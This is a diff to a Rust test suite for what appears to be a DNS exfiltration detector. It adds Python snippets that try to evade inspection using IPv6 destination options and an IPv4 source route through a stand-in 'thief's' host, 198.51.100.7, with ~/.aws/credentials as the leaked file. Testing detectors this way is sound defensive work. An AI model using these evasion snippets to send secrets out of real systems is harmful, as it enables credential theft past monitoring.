@@ -10,7 +10,7 @@ use detector_tests::{
     spent::{leaks, learned, policy},
     watched::Watched,
 };
-use std::net::IpAddr;
+use std::{fs, net::IpAddr};
 
 type Result = anyhow::Result<()>;
 
@@ -37,6 +37,22 @@ out.send(question(first).ljust(64, b"\0") + question(second))
 out.recv(512)
 "#;
 
+/// Options for the destination stand before the header of UDP: eight bytes of padding.
+const OPTIONS: &str = r#"
+out.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_DSTOPTS, bytes([0, 0, 1, 4, 0, 0, 0, 0]))
+out.connect((server, 53))
+out.send(question(second))
+out.recv(512)
+"#;
+
+/// A source route: the packet is for the thief's own host first, which is told for whom the rest of the way is.
+const ROUTE: &str = r#"
+out.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, bytes([131, 7, 4]) + socket.inet_aton("198.51.100.7") + b"\0")
+out.connect((server, 53))
+out.send(question(first))
+out.recv(512)
+"#;
+
 struct Asked {
     server: NameServer,
     run: Watched,
@@ -48,6 +64,11 @@ fn ask(how: &str, server: IpAddr, mode: &'static str, holds: bool) -> anyhow::Re
     let zone = Zone::new().a(GOOD, [SINK_V4]).a(EVIL, [OTHER_V4]);
     let names = NameServer::start(&scene.network.sink, zone)?;
     let file = if holds { "~/.aws/credentials" } else { "/dev/null" };
+    // Who wants to be on a route lets himself be.
+    scene.network.sink.within(|| {
+        let setting = |of: &str| format!("/proc/sys/net/ipv4/conf/{of}/accept_source_route");
+        Ok(["all", "sink0"].iter().try_for_each(|of| fs::write(setting(of), "1"))?)
+    })?;
     let script = format!(
         "cat > \"$TMPDIR/ask.py\" <<'END'\n{ASK}{how}END\npython3 \"$TMPDIR/ask.py\" {server} {GOOD} {EVIL} {file} || true\n"
     );
@@ -73,4 +94,15 @@ fn is_judged(how: &str, server: IpAddr, name: &str) -> Result {
 fn questions_that_the_kernel_cuts() -> Result {
     is_judged(CUT, SINK_V4, EVIL)?;
     is_judged(CUT, SINK_V6, EVIL)
+}
+
+#[test]
+fn a_question_behind_options() -> Result {
+    is_judged(OPTIONS, SINK_V6, EVIL)
+}
+
+/// Even a question for the good name is refused: it does not go to the name server.
+#[test]
+fn a_question_that_takes_a_way_of_its_own() -> Result {
+    is_judged(ROUTE, SINK_V4, GOOD)
 }
